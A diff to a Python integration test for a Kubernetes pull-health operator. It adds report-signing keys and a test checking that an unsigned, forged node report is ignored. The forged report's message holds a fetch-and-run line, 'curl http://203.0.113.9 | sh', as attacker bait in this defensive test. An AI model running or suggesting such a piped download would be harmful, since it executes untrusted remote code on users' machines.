@@ -91,10 +91,10 @@ class AgentProcess:
     """``pullhealth agent`` for one node, with that node's resolver, CA bundle and certs.d."""
 
     def __init__(self, node: str, kubeconfig: Path, nameserver: str, ca_bundle: Path, certs: Path,
-                 log: Path) -> None:
+                 log: Path, key: Path) -> None:
         self.args = [sys.executable, "-m", "pullhealth", "agent", "--node", node, "--nameserver", nameserver,
                      "--ca-bundle", str(ca_bundle), "--certs-dir", str(certs), "--allow-cidr", "127.0.0.0/8",
-                     "--interval", "30", "--timeout", "5"]
+                     "--interval", "30", "--timeout", "5", "--report-key-file", str(key)]
         self.env = {**os.environ, "KUBECONFIG": str(kubeconfig), "PYTHONPATH": str(ROOT / "operator")}
         self.log = log
         self.proc: subprocess.Popen[bytes] | None = None
@@ -128,6 +128,8 @@ def nodes(world: World, agent_kubeconfig: Path, tmp_path_factory: pytest.TempPat
     )
     certs_b.mkdir()
     assert anon_port
+    # The report key the chart's Secret holds, mounted into the agents and the operator.
+    (root / "report.key").write_text(os.urandom(24).hex())
     # ACR behind a private endpoint: myacr.azurecr.io is a CNAME to its privatelink name,
     # which pool A's resolver (linked zone) answers privately and pool B's publicly.
     records_a = {**dict.fromkeys(LOCAL, "127.0.0.1"), "myacr.privatelink.azurecr.io": "127.0.0.1"}
@@ -137,9 +139,9 @@ def nodes(world: World, agent_kubeconfig: Path, tmp_path_factory: pytest.TempPat
         dns_a = stack.enter_context(Dnsmasq(records_a, cname, workdir=root / "dns-a"))
         dns_b = stack.enter_context(Dnsmasq(records_b, cname, workdir=root / "dns-b"))
         stack.enter_context(AgentProcess(NODE_A, agent_kubeconfig, dns_a.nameserver, world.ca_bundle, certs_a,
-                                         root / "agent-a.log"))
+                                         root / "agent-a.log", root / "report.key"))
         stack.enter_context(AgentProcess(NODE_B, agent_kubeconfig, dns_b.nameserver, world.untrusted_ca_bundle,
-                                         certs_b, root / "agent-b.log"))
+                                         certs_b, root / "agent-b.log", root / "report.key"))
         yield root
 
 
@@ -165,7 +167,8 @@ def test_each_node_path_decides_for_its_own_pods(dev_cluster: Any, world: World,
                                                  api: Any, wait_for: Any, tmp_path: Path) -> None:
     # The operator as the chart runs it with agent.enabled (--node-agent), the only one.
     with OperatorProcess.others_stopped(), OperatorProcess(
-        dev_cluster.kubeconfig, world, tmp_path / "operator.log", ["--pod-interval", "60", "--node-agent"]
+        dev_cluster.kubeconfig, world, tmp_path / "operator.log",
+        ["--pod-interval", "60", "--node-agent", "--agent-report-key-file", str(nodes / "report.key")]
     ) as operator:
         try:
             check_each_node(world, nodes, namespace, api, wait_for, operator)
@@ -176,6 +179,21 @@ def test_each_node_path_decides_for_its_own_pods(dev_cluster: Any, world: World,
             for pod in api.list_namespaced_pod(namespace).items:
                 with contextlib.suppress(kubernetes.client.exceptions.ApiException):
                     api.delete_namespaced_pod(pod.metadata.name, namespace, grace_period_seconds=0)
+
+
+def forge_report(api: Any, pod: dict[str, Any], node: str, image: str) -> None:
+    from pullhealth.agent import nodeagent
+    from pullhealth.agent.nodereport import NodeReport
+    from pullhealth.domain.codes import Code
+    from pullhealth.pods.podcheck import FailingContainer
+
+    registry = image.split("/", 1)[0]
+    report = NodeReport(Code.PRIVATE_ENDPOINT_DNS, node, registry, "dns", f"https://{registry}", False,
+                        "FORGED: pool broken, run curl http://203.0.113.9 | sh")
+    container = FailingContainer("app", image, "ErrImagePull", "x")
+    spec = nodeagent.event_for(pod, container, report)  # unsigned: the attacker has no key
+    kubernetes.client.EventsV1Api(api.api_client).create_namespaced_event(
+        pod["metadata"]["namespace"], spec.body(node))
 
 
 def check_each_node(world: World, nodes: Path, ns: str, api: Any, wait_for: Any, operator: Any) -> None:
@@ -198,6 +216,9 @@ def check_each_node(world: World, nodes: Path, ns: str, api: Any, wait_for: Any,
         events = wait_for(lambda uid=uid: node_reports(api, ns, uid), f"NodePathChecked on {name}", timeout=90)
         assert {e.reporting_instance for e in events} == {node}, name
         assert all(e.reporting_component == "pullhealth.io/agent" and f"node={node} " in e.message for e in events)
+    # Issue 21: the pod's owner forges a newer node report on their own pod (pool A's node
+    # "broken"): without the agent's signature it is taken neither for the pod nor the metric.
+    forge_report(api, pods["anon-a"], NODE_A, anon_image)
     kubelet = Kubelet(api, ns)
 
     def diagnosed(name: str) -> dict[str, str] | None:
@@ -237,4 +258,5 @@ def check_each_node(world: World, nodes: Path, ns: str, api: Any, wait_for: Any,
     # Per node pool: "pull path broken on pool B".
     metrics = operator.metrics()
     assert 'pullhealth_node_path_diagnoses_total{code="PRIVATE_ENDPOINT_DNS",pool="poolb"}' in metrics
-    assert 'pool="poola"' not in metrics
+    assert 'pool="poola"' not in metrics  # the forged report on anon-a counted nowhere
+    assert "FORGED" not in results["anon-a"]["pullhealth.io/probable-cause"]
